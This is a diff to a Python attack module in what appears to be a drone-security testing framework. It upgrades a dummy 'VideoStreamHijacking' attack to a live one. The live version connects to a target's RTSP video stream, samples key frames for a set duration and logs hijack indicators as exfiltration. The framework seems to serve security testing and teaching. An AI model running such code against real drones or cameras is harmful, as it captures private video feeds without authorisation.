@@ -1,25 +1,68 @@
 # dvd_lite/dvd_attacks/exfiltration/video_hijacking.py
 """
-VideoStreamHijacking 공격 (더미 구현)
+VideoStreamHijacking 공격
+live=True면 컴패니언 컴퓨터의 RTSP 영상 스트림에 세션을 열어 duration초 동안 수신한다.
+RTP는 제한된 링 버퍼에만 보관하고 키 프레임은 sample_interval마다 해시로 중복을 걸러 새 장면만 남기므로
+세션 길이와 무관하게 메모리 / CPU 사용량이 일정하다. live가 아니면 탈취를 시뮬레이션한다.
+
+주요 파라미터 (run_attack 키워드):
+    live, stream_url, rtsp_port, rtsp_path, duration, sample_interval, max_samples,
+    ring_frames, ring_bytes, output_dir, timeout
 """
 import asyncio
-import random
-from typing import Tuple, List, Dict, Any
+from typing import Tuple, List, Dict, Any, Optional
 from ..core.attack_base import BaseAttack
 from ..core.enums import AttackType
+from ...rtsp import sample_stream, KeyFrameSampler, FrameRing, RTSPError, DEFAULT_RTSP_PORT
+
+DEFAULT_RTSP_PATH = "/stream"
 
 class VideoStreamHijacking(BaseAttack):
     """VideoStreamHijacking 공격"""
-    
+
     def _get_attack_type(self) -> AttackType:
-        return AttackType.RECONNAISSANCE  # 기본값
-    
+        return AttackType.EXFILTRATION
+
+    @classmethod
+    def expected_duration(cls, config: Dict[str, Any]) -> Optional[float]:
+        """live 세션은 duration초 수신 + 연결 / 응답 대기(timeout)"""
+        if not config.get("live"):
+            return None
+        return config.get("duration", 10.0) + config.get("timeout", 5.0)
+
     async def _run_attack(self) -> Tuple[bool, List[str], Dict[str, Any]]:
-        """더미 공격 로직"""
-        await asyncio.sleep(random.uniform(1.0, 3.0))
-        
-        success = random.random() > 0.3
+        if not self.config.get("live"):
+            return await self._simulate()
+
+        url = self.config.get("stream_url") or (
+            f"rtsp://{self.target_ip}:{self.config.get('rtsp_port', DEFAULT_RTSP_PORT)}"
+            f"{self.config.get('rtsp_path', DEFAULT_RTSP_PATH)}")
+        sampler = KeyFrameSampler(interval=self.config.get("sample_interval", 1.0),
+                                  max_samples=self.config.get("max_samples", 32),
+                                  output_dir=self.config.get("output_dir"))
+        ring = FrameRing(self.config.get("ring_frames", 120), self.config.get("ring_bytes", 8 * 1024 * 1024))
+
+        try:
+            report = await sample_stream(url, self.config.get("duration", 10.0), sampler, ring,
+                                         timeout=self.config.get("timeout", 5.0))
+        except RTSPError as e:
+            return False, [], {"stream_url": url, "error": str(e), "status": e.status, "success_rate": 0.0}
+
+        details = report.to_dict()
+        details["success_rate"] = 1.0 if report.frames else 0.0
+        iocs: List[str] = []
+        if report.frames:
+            iocs.append(f"RTSP_HIJACKED:{url}:{report.codec}:{report.frames}_frames")
+            iocs.extend(f"VIDEO_KEYFRAME:{sample.digest}" for sample in report.samples)
+        self.record_progress(iocs=iocs, frames=report.frames, samples=len(report.samples))
+        return report.frames > 0, iocs, details
+
+    async def _simulate(self) -> Tuple[bool, List[str], Dict[str, Any]]:
+        """탈취 시뮬레이션"""
+        await asyncio.sleep(self.random.uniform(1.0, 3.0))
+
+        success = self.random.random() > 0.3
         iocs = [f"VIDEOSTREAMHIJACKING_IOC:dummy_indicator"]
         details = {"success_rate": 0.7 if success else 0.2}
-        
+
         return success, iocs, details